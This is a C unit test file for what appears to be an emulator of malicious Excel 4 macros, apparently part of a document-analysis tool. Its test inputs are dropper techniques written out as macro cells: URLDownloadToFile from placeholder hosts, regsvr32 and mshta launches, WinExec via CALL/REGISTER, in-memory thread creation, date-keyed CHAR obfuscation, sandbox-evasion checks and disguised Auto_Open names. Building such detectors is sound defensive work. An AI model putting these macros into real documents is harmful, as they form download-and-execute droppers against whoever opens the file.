/* Excel 4 macros as cells, and the effects that are expected of them. */
#include "unit/test.h"

#include <stdio.h>
#include <string.h>

#include "make/xlm.h"

#define HOST "http://download.example/a.bin"
#define COLUMN(...) ((const char *const[]){__VA_ARGS__, NULL})

/* What a column of Macro1 tells. */
static void expect(const char *const *texts, const char *want)
{
    make_xlm *m = make_xlm_new();
    make_xlm_cell(m, "Sheet1", "A1", "ca");
    make_xlm_cell(m, "Sheet1", "B2", "lc.example");
    make_xlm_cell(m, "Sheet1", "C3", "65");
    make_xlm_column(m, texts);
    const char *told = make_xlm_run(m);
    if (!strstr(told, want)) print_message("wanted: %s\ngot: %s\n", want, told);
    assert_non_null(strstr(told, want));
    make_xlm_free(m);
}

static void expect_not(const char *const *texts, const char *unwanted)
{
    make_xlm *m = make_xlm_new();
    make_xlm_column(m, texts);
    const char *told = make_xlm_run(m);
    if (strstr(told, unwanted)) print_message("not wanted: %s\ngot: %s\n", unwanted, told);
    assert_null(strstr(told, unwanted));
    make_xlm_free(m);
}

/* One formula: EXEC of its text. */
static void gives(const char *formula, const char *want)
{
    char cell[1024], line[1024];
    snprintf(cell, sizeof cell, "=EXEC(\"<\"&(%s)&\">\")", formula);
    snprintf(line, sizeof line, "command=<%s>", want);
    expect(COLUMN(cell, "=HALT()"), line);
}

/* CODE and CHAR count by the system's page: JIS X 0208 in Japanese Excel (Microsoft's reference of CODE), bytes elsewhere. */
static void characters_are_of_the_country(void **state)
{
    static const struct { const char *locale, *want; } rows[] = {
        {"ja-JP", "command=<9250 \u3042 177 \uFF71 65>"}, {"en-US", "command=<63 ? 63 \u00B1 65>"}};
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        make_xlm *m = make_xlm_new();
        m->world->env.locale = rows[i].locale;
        m->world->strings.codepage = i == 0 ? 932 : 0;
        make_xlm_column(m, COLUMN("=EXEC(\"<\"&CODE(\"\u3042\")&\" \"&IFERROR(CHAR(9250),\"?\")&\" \"&CODE(\"\uFF71\")&\" \"&CHAR(177)&\" \"&CODE(\"A\")&\">\")", "=HALT()"));
        const char *told = make_xlm_run(m);
        if (!strstr(told, rows[i].want)) fail_msg("wanted: %s\ngot: %s\n", rows[i].want, told);
        make_xlm_free(m);
    }
}

static void it_starts_programs(void **state)
{
    (void)state;
    expect(COLUMN("=EXEC(\"ca\"&\"lc.example \"&CHAR(65))", "=HALT()"), "run command=calc.example A");
    expect(COLUMN("=EXEC(Sheet1!A1&Sheet1!B2&CHAR(Sheet1!C3))", "=HALT()"), "run command=calc.exampleA");
    expect(COLUMN("=CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCCJ\",0,\"open\",\"tool.example\",\"/q\",\"C:\\x\",0)"),
           "run command=tool.example /q verb=open directory=C:\\x window=hidden");
    expect(COLUMN("=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"tool.example /z\",0)"), "run command=tool.example /z");
    expect(COLUMN("=REGISTER(\"Kernel32\",\"WinExec\",\"JCJ\",\"Alpha\",,1,9)", "=Alpha(\"tool.example /w\",0)"),
           "run command=tool.example /w");
    expect(COLUMN("=REGISTER.ID(\"Kernel32\",\"WinExec\",\"JCJ\")", "=CALL(A1,\"tool.example /i\",0)"),
           "run command=tool.example /i");
    expect(COLUMN("=INITIATE(\"cmd\",\"/c tool.example\")"), "run command=cmd /c tool.example");
}

static void downloads_fail_then_succeed(void **state)
{
    (void)state;
    static const char *const macro[] = {
        "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://one.example/a\",\"C:\\x.ocx\",0,0)",
        "=IF(A1<0,CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://two.example/a\",\"C:\\x.ocx\",0,0))",
        "=IF(A2<0,CLOSE(0),)",
        "=EXEC(\"C:\\Windows\\SysWow64\\regsvr32.exe -s C:\\x.ocx\")",
        "=RETURN()",
        NULL};
    expect(macro, "url=http://one.example/a");
    expect(macro, "url=http://two.example/a");
    expect(macro, "run command=C:\\Windows\\SysWow64\\regsvr32.exe -s C:\\x.ocx");
}

static void it_writes_code_and_runs_it(void **state)
{
    (void)state;
    expect(COLUMN("=FORMULA(\"=EXEC(\"\"tool.example\"\")\",A3)", "=GOTO(A3)"), "run command=tool.example");
    expect(COLUMN("=FORMULA.FILL(\"=EX\"&\"EC(\"&CHAR(34)&\"tool.example\"&CHAR(34)&\")\",B5)", "=RUN(B5)",
                  "=EXEC(\"second.example\")"),
           "run command=second.example");
    expect(COLUMN("=FORMULA(\"=FORMULA(\"\"=EXEC(\"\"\"\"deep.example\"\"\"\")\"\",R4C1)\",A3)", "=ALERT(1)"),
           "run command=deep.example");
    expect(COLUMN("=SET.VALUE(B1,\"late.example\")", "=EXEC(B1)"), "run command=late.example");
    expect(COLUMN("=SET.NAME(\"x\",\"named.example\")", "=EXEC(x)"), "run command=named.example");
    expect(COLUMN("=DEFINE.NAME(\"y\",\"=\"\"defined\"\"&\"\".example\"\"\")", "=EXEC(y)"),
           "run command=defined.example");
    expect(COLUMN("=z=\"assigned.example\"", "=EXEC(z)"), "run command=assigned.example");
    expect(COLUMN("=FORMULA(\"ch\",B1)=FORMULA(\"ain.example\",B2)", "=EXEC(B1&B2)"), "run command=chain.example");
}

static void it_follows_jumps_and_loops(void **state)
{
    (void)state;
    expect(COLUMN("=GOTO(A3)", "=EXEC(\"no.example\")", "=EXEC(\"yes.example\")"), "command=yes.example");
    expect_not(COLUMN("=GOTO(A3)", "=EXEC(\"no.example\")", "=EXEC(\"yes.example\")"), "no.example");
    expect(
        COLUMN("=SET.NAME(\"s\",\"\")", "=FOR(\"i\",1,5)", "=SET.NAME(\"s\",s&i)", "=NEXT()", "=EXEC(s&\".example\")"),
        "command=12345.example");
    expect(COLUMN("=SET.NAME(\"n\",0)", "=WHILE(n<3)", "=SET.NAME(\"n\",n+1)", "=NEXT()", "=EXEC(n&\".example\")"),
           "command=3.example");
    expect(COLUMN("=IF(1>2)", "=EXEC(\"no.example\")", "=ELSE()", "=EXEC(\"else.example\")", "=END.IF()",
                  "=EXEC(\"end.example\")"),
           "end.example");
    expect_not(COLUMN("=IF(1>2)", "=EXEC(\"no.example\")", "=ELSE()", "=EXEC(\"else.example\")", "=END.IF()"),
               "no.example");
    expect_not(COLUMN("=IF(2>1)", "=EXEC(\"yes.example\")", "=ELSE.IF(TRUE)", "=EXEC(\"no.example\")", "=END.IF()"),
               "no.example");
    expect(COLUMN("=SET.NAME(\"s\",\"\")", "=FOR.CELL(\"c\",Sheet1!A1:C3,TRUE)", "=SET.NAME(\"s\",s&c)", "=NEXT()",
                  "=EXEC(s)"),
           "command=calc.example65");
    expect(COLUMN("=EXEC(A5(\"x\"))", "=HALT()", "no", "no", "=ARGUMENT(\"p\")", "=RETURN(p&\"y.example\")"),
           "command=xy.example");
    expect(COLUMN("=FOR(\"i\",1,10)", "=IF(i=4,BREAK(),)", "=NEXT()", "=EXEC(i&\".example\")"), "command=4.example");
    expect(COLUMN("=ON.TIME(NOW()+1,\"R4C1\")", "=HALT()", "x", "=EXEC(\"later.example\")"), "command=later.example");
}

static void it_tries_days(void **state)
{
    (void)state;
    /* CHAR codes are shifted by the day of the month: only the 17th makes sense. */
    char cell[600] = "=FORMULA(\"=\"&";
    for (const char *p = "EXEC(\"mshta http://day.example/x\")"; *p; p++) {
        char piece[40];
        snprintf(piece, sizeof piece, "%sCHAR(%d-B1)", p[0] == 'E' && p[1] == 'X' ? "" : "&", (uint8_t)*p + 17);
        strcat(cell, piece);
    }
    strcat(cell, ",A4)");
    make_xlm *m = make_xlm_new();
    make_xlm_cell(m, "Macro1", "B1", "=DAY(NOW())");
    make_xlm_column(m, COLUMN("=SET.VALUE(B1,DAY(NOW()))", "=LEN(1)", cell));
    const char *told = make_xlm_run(m);
    assert_non_null(strstr(told, "run command=mshta http://day.example/x"));
    make_xlm_free(m);
}

/* Formulas that wait for a date, or end at one; the clock shows 2021-01-26, serial number 44222. */
static void it_tries_other_dates(void **state)
{
    (void)state;
    expect(COLUMN("=IF(NOW()>44400,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
    expect(COLUMN("=IF(TODAY()<DATE(2020,1,1),EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
    expect(COLUMN("=IF(YEAR(NOW())=2022,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "run command=mshta http://date.example/x");
    expect_not(COLUMN("=IF(HOUR(NOW())>20,EXEC(\"mshta http://date.example/x\"),)", "=HALT()"), "date.example");
}

static void unknown_conditions_go_both_ways(void **state)
{
    (void)state;
    static const char *const macro[] = {"=IF(INPUT(\"?\")=\"x\",GOTO(A3),GOTO(A5))",
                                        "x",
                                        "=EXEC(\"one.example\")",
                                        "=HALT()",
                                        "=EXEC(\"two.example\")",
                                        NULL};
    expect(macro, "one.example");
    expect(macro, "two.example");
    expect(COLUMN("=NO.SUCH.FUNCTION(1,2)", "=EXEC(\"on.example\")"), "on.example");
    expect(COLUMN("=IF(GET.WORKSPACE(42),,CLOSE(TRUE))", "=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)",
                  "=EXEC(\"past.example\")"),
           "past.example");
    expect(COLUMN("=IF(GET.WORKSPACE(31)=FALSE,CLOSE(TRUE),)", "=EXEC(\"behind.example\")"), "behind.example");
    expect(COLUMN("=IF(INDEX(GET.WORKSPACE(37),2)<>81,CLOSE(TRUE),)", "=EXEC(\"cmd /c japan.example\")"),
           "japan.example");
}

static void it_reads_and_writes_files(void **state)
{
    (void)state;
    static const char *const macro[] = {"=FOPEN(\"C:\\Users\\Public\\a.vbs\",3)",
                                        "=FWRITELN(A1,\"line one\")",
                                        "=FWRITE(A1,\"two\")",
                                        "=FCLOSE(A1)",
                                        "=FOPEN(\"C:\\Users\\Public\\a.vbs\",2)",
                                        "=EXEC(FREADLN(A5)&\".example\")",
                                        NULL};
    expect(macro, "write path=C:\\Users\\Public\\a.vbs");
    expect(macro, "line one\r\ntwo");
    expect(macro, "command=line one.example");
    expect(COLUMN("=EXEC(\"reg export HKCU\\x C:\\r.reg\")", "=FOPEN(\"C:\\r.reg\",1)", "=FPOS(A2,215)",
                  "=FREAD(A2,255)", "=FCLOSE(A2)", "=IF(ISNUMBER(SEARCH(\"0001\",A4)),CLOSE(FALSE),)",
                  "=EXEC(\"after.example\")"),
           "after.example");
}

static void functions_give_what_excel_gives(void **state)
{
    (void)state;
    static const struct {
        const char *formula, *want;
    } rows[] = {{"MID(\"abcdef\",2,3)", "bcd"},
                {"LEFT(\"abc\")&RIGHT(\"xyz\",2)", "ayz"},
                {"LEN(\"four\")", "4"},
                {"SUBSTITUTE(\"a-b-c\",\"-\",\"\")", "abc"},
                {"SUBSTITUTE(\"a-b-c\",\"-\",\"+\",2)", "a-b+c"},
                {"REPT(\"ab\",3)", "ababab"},
                {"TRIM(\"  a   b \")", "a b"},
                {"UPPER(\"aB\")&LOWER(\"Cd\")&PROPER(\"one two\")", "ABcdOne Two"},
                {"CODE(\"A\")+1", "66"},
                {"REPLACE(\"abcdef\",2,3,\"X\")", "aXef"},
                {"FIND(\"c\",\"abc\")&SEARCH(\"B\",\"abc\")", "32"},
                {"EXACT(\"a\",\"A\")", "FALSE"},
                {"CONCATENATE(1,\"a\",TRUE)", "1aTRUE"},
                {"VALUE(\"12.5\")*2", "25"},
                {"FIXED(1234.567,1)", "1,234.6"},
                {"TEXT(0.5,\"0%\")", "50%"},
                {"TEXT(1234.5,\"#,##0.00\")", "1,234.50"},
                {"TEXT(44197,\"yyyy-mm-dd\")", "2021-01-01"},
                {"MOD(-3,2)&INT(-1.5)", "1-2"},
                {"ROUND(2.5,0)&TRUNC(-2.7)&ROUNDUP(1.1,0)", "3-22"},
                {"2^3*2+10%", "16.1"},
                {"-2^2", "4"},
                {"1E+20", "1E+20"},
                {"1/3", "0.333333333333333"},
                {"INDEX({1,2;3,4},2,1)", "3"},
                {"MATCH(\"b\",{\"a\",\"b\"},0)", "2"},
                {"VLOOKUP(2,{1,\"x\";2,\"y\"},2,FALSE)", "y"},
                {"HLOOKUP(\"b\",{\"a\",\"b\";1,2},2,FALSE)", "2"},
                {"CHOOSE(2,\"a\",\"b\")", "b"},
                {"ADDRESS(3,28)", "$AB$3"},
                {"ROW(C5)&COLUMN(C5)", "53"},
                {"OFFSET(Sheet1!A1,1,1)", "lc.example"},
                {"INDIRECT(\"Sheet1!R2C2\",FALSE)", "lc.example"},
                {"INDIRECT(\"Sheet1!B2\")", "lc.example"},
                {"COUNTA(Sheet1!A1:C3)&COUNT(Sheet1!A:C)", "31"},
                {"SUM(1,2,Sheet1!C3)&MAX(3,7)", "687"},
                {"IF(\"a\"=\"A\",1,2)", "1"},
                {"DATE(2021,2,31)", "44258"},
                {"YEAR(44197)&MONTH(44197)&WEEKDAY(44197)", "202116"},
                {"HOUR(0.75)", "18"},
                {"AND(1,TRUE)&OR(FALSE,0)&NOT(1)", "TRUEFALSEFALSE"},
                {"ISNUMBER(1)&ISTEXT(\"\")&ISERROR(1/0)&ISBLANK(Z99)", "TRUETRUETRUETRUE"},
                {"IFERROR(1/0,\"e\")", "e"},
                {"DEC2HEX(255)&HEX2DEC(\"1F\")", "FF31"},
                {"BITXOR(5,3)", "6"},
                {"CHAR(147)", "\xE2\x80\x9C"},
                {"T(1)&N(\"x\")", "0"},
                {"GET.CELL(5,Sheet1!B2)", "lc.example"},
                {"GET.DOCUMENT(88)", "Book1.xlsm"},
                {"TYPE(\"a\")&TYPE(1)", "21"},
                {"SUMPRODUCT({1,2},{3,4})", "11"},
                {"COUNTIF({1,2,3},\">1\")", "2"},
                {"_xlfn.TEXTJOIN(\"-\",TRUE,\"a\",\"b\")", "a-b"},
                {"(Sheet1!A1:B2 Sheet1!B2:C3)", "lc.example"},
                {"Sheet1!B2:B2", "lc.example"},
                {"'Sheet1'!B2", "lc.example"},
                {"[Book1]Sheet1!B2", "lc.example"},
                {"REFTEXT(B3,TRUE)", "[Book1.xlsm]Macro1!$B$3"},
                {"EVALUATE(\"1+2\")", "3"}};
    for (size_t i = 0; i < SK_COUNT(rows); i++) gives(rows[i].formula, rows[i].want);
}

static void names_start_in_disguise(void **state)
{
    (void)state;
    make_xlm *m = make_xlm_new();
    make_xlm_cell(m, "Macro1", "C7", "=EXEC(\"seven.example\")");
    make_xlm_name(m, "Auto_Open222", "Macro1!$C$7");
    assert_non_null(strstr(make_xlm_run(m), "seven.example"));
    make_xlm_free(m);
    m = make_xlm_new();
    make_xlm_cell(m, "Macro1", "C7", "=EXEC(\"eight.example\")");
    make_xlm_name(m, "_xlnm.Auto_Activate", "Macro1!$C$7");
    make_xlm_name(m, "other", "Macro1!$C$8");
    assert_non_null(strstr(make_xlm_run(m), "eight.example"));
    make_xlm_free(m);
}

static void sheets_without_a_start_run_from_the_top(void **state)
{
    (void)state;
    make_xlm *m = make_xlm_new();
    make_xlm_name(m, "other", "1");
    make_xlm_cell(m, "Macro1", "B9", "=EXEC(\"button.example\")");
    assert_non_null(strstr(make_xlm_run(m), "button.example"));
    make_xlm_free(m);
}

static void endless_macros_end_in_the_limit(void **state)
{
    (void)state;
    static const char *const loops[][4] = {{"=GOTO(A1)", NULL},
                                           {"=RUN(A1)", NULL},
                                           {"=SET.NAME(\"s\",s&\"xxxxxxxxxxxxxxxx\")", "=GOTO(A1)", NULL},
                                           {"=FORMULA(\"=FORMULA(GET.FORMULA(RC),R[1]C)\",A2)", "x", NULL},
                                           {"=A1()", NULL},
                                           {"=WHILE(TRUE)", "=NEXT()", NULL},
                                           {"=FORMULA.FILL(\"=1\",A1:XFD1048576)", NULL}};
    for (size_t i = 0; i < SK_COUNT(loops); i++) {
        make_xlm *m = make_xlm_new();
        make_xlm_column(m, loops[i]);
        (void)make_xlm_run(m);
        if (i != 3) assert_true(m->budget.reached[SK_LIMIT_EMULATE_STEPS] || m->budget.reached[SK_LIMIT_XLM_CELLS]);
        make_xlm_free(m);
    }
}

static void tokens_are_evaluated(void **state)
{
    (void)state;
    for (unsigned version = SK_PTG_BIFF8; version <= SK_PTG_BIFF12; version++) {
        make_xlm *m = make_xlm_new();
        make_tokens t = make_tokens_new(m->arena, (sk_ptg_version)version),
                    u = make_tokens_new(m->arena, (sk_ptg_version)version);
        sk_doc_reference reference = {.own = true, .first = 1, .last = 1};
        m->document->references = &reference;
        m->document->reference_count = 1;
        make_xlm_cell(m, "Sheet1", "B2", "token");
        make_ptg_ref_sheet(&t, 0, 1, 1);
        make_ptg_string(&t, ".example ");
        make_ptg(&t, 0x08);
        make_ptg_int(&t, 65);
        make_ptg_function(&t, "CHAR");
        make_ptg(&t, 0x08);
        make_ptg_call(&t, "EXEC", 1);
        make_xlm_tokens(m, "Macro1", "A1", &t);
        make_ptg_call(&u, "HALT", 0);
        make_xlm_tokens(m, "Macro1", "A2", &u);
        assert_non_null(strstr(make_xlm_run(m), "run command=token.example A"));
        make_xlm_free(m);
    }
}

static void memory_becomes_a_child(void **state)
{
    (void)state;
    expect(COLUMN("=REGISTER(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",\"va\",,1,9)", "=va(0,100,4096,64)",
                  "=CALL(\"Kernel32\",\"WriteProcessMemory\",\"JJJCJJ\",-1,A2,\"inert\",5,0)",
                  "=CALL(\"Kernel32\",\"WriteProcessMemory\",\"JJJCJJ\",-1,A2+5,\" text\",5,0)",
                  "=CALL(\"Kernel32\",\"CreateThread\",\"JJJJJJJ\",0,0,A2,0,0,0)"),
           "inert text");
}

static bool procedure(void *self, sk_world *w, sk_str name, sk_args *args, sk_value *ret)
{
    (void)w;
    if (!sk_str_is(name, "Helper")) return false;
    *(int *)self += 1;
    *ret = sk_double(args->count == 1 && args->v[0].type == SK_V_DOUBLE ? args->v[0].u.d * 2 : 7);
    return true;
}

static void other_languages_share_the_book(void **state)
{
    (void)state;
    make_xlm *m = make_xlm_new();
    sk_world *w = m->world;
    sk_value v = sk_string(SK_STR("=EXEC(\"written.example\")")), out;
    sk_args none = {0};
    assert_true(sk_xlm_share(w, m->document));
    const sk_world_book *b = w->book;
    assert_true(b->write(b->self, w, 0, 4, 2, &v, true));
    assert_true(b->read(b->self, w, 0, 4, 2, true, &out));
    assert_true(out.type == SK_V_STRING && sk_str_is(out.u.s, "=EXEC(\"written.example\")"));
    assert_true(b->start(b->self, w, SK_STR("Macro1!C5"), &none, &out));
    assert_non_null(strstr(sk_arena_string(m->arena, sk_buf_view(&m->told)), "written.example"));
    assert_true(b->evaluate(b->self, w, SK_STR("LEN(\"abc\")+1"), true, &out));
    assert_int_equal(out.type, SK_V_DOUBLE);
    assert_true(out.u.d == 4);
    assert_true(b->read(b->self, w, 1, 0, 0, false, &out));
    assert_int_equal(out.type, SK_V_EMPTY);
    assert_false(b->evaluate(b->self, w, SK_STR("(("), true, &out));
    assert_false(b->start(b->self, w, SK_STR("NoSuch"), &none, &out));
    assert_false(b->read(b->self, w, 9, 0, 0, false, &out));
    assert_false(b->write(b->self, w, 0, 1048576, 0, &v, false));
    w = sk_world_again(w, SK_ALL_SUCCEED, NULL); /* what was written is gone */
    assert_true(b->read(b->self, w, 0, 4, 2, true, &out));
    assert_int_equal(out.type, SK_V_EMPTY);
    make_xlm_free(m);
}

static void sheets_are_added_and_named(void **state)
{
    (void)state;
    make_xlm *m = make_xlm_new();
    sk_world *w = m->world;
    sk_value v = sk_string(SK_STR("=EXEC(\"added.example\")")), out;
    sk_args none = {0};
    assert_true(sk_xlm_share(w, m->document));
    const sk_world_book *b = w->book;
    const sk_doc_sheet *macro = b->add_sheet(b->self, w, SK_STR(""), true, false),
                       *named = b->add_sheet(b->self, w, SK_STR("Pieces"), false, true);
    assert_non_null(macro);
    assert_ptr_equal(b->sheet(b->self, w, 2), macro);
    assert_ptr_equal(b->sheet(b->self, w, 3), named);
    assert_null(b->sheet(b->self, w, 4));
    b->rename_sheet(b->self, w, macro->index, SK_STR("New"));
    assert_true(b->write(b->self, w, macro->index, 0, 0, &v, false));
    assert_true(b->start(b->self, w, SK_STR("New!A1"), &none, &out));
    assert_non_null(strstr(sk_arena_string(m->arena, sk_buf_view(&m->told)), "added.example"));
    assert_false(b->read(b->self, w, named->index, 0, 0, false, &out)); /* nobody knows what is there */
    v = sk_string(SK_STR("'12"));
    assert_true(b->write(b->self, w, named->index, 0, 0, &v, false));
    assert_true(b->read(b->self, w, named->index, 0, 0, false, &out));
    assert_true(out.type == SK_V_STRING && sk_str_is(out.u.s, "12"));
    v = sk_string(SK_STR("=New!A1"));
    b->define(b->self, w, SK_STR("go"), &v);
    assert_true(b->start(b->self, w, SK_STR("Book1.xls!go"), &none, &out));
    w = sk_world_again(w, SK_ALL_FAIL, NULL);
    assert_null(b->sheet(b->self, w, 2));
    for (unsigned i = 0; i < 1100; i++) (void)b->add_sheet(b->self, w, SK_STR("x"), false, false);
    assert_null(b->add_sheet(b->self, w, SK_STR("x"), false, false));
    make_xlm_free(m);
}

static void procedures_of_the_project_are_called(void **state)
{
    (void)state;
    make_xlm *m = make_xlm_new();
    int calls = 0;
    m->world->procedures = (sk_world_procedures){&calls, procedure};
    make_xlm_column(m, COLUMN("=EXEC(Helper(21)&\".example\")", "=RUN(\"Helper\")", "=RUN(\"NoSuch\")", "=EXEC(A2&\".example\")"));
    const char *told = make_xlm_run(m);
    assert_non_null(strstr(told, "command=42.example"));
    assert_non_null(strstr(told, "command=7.example"));
    assert_true(calls >= 2);
    make_xlm_free(m);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(characters_are_of_the_country), cmocka_unit_test(it_starts_programs),
        cmocka_unit_test(downloads_fail_then_succeed),
        cmocka_unit_test(it_writes_code_and_runs_it),
        cmocka_unit_test(it_follows_jumps_and_loops),
        cmocka_unit_test(it_tries_days),
        cmocka_unit_test(it_tries_other_dates),
        cmocka_unit_test(unknown_conditions_go_both_ways),
        cmocka_unit_test(it_reads_and_writes_files),
        cmocka_unit_test(functions_give_what_excel_gives),
        cmocka_unit_test(names_start_in_disguise),
        cmocka_unit_test(sheets_without_a_start_run_from_the_top),
        cmocka_unit_test(endless_macros_end_in_the_limit),
        cmocka_unit_test(tokens_are_evaluated),
        cmocka_unit_test(memory_becomes_a_child),
        cmocka_unit_test(other_languages_share_the_book),
        cmocka_unit_test(sheets_are_added_and_named),
        cmocka_unit_test(procedures_of_the_project_are_called),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
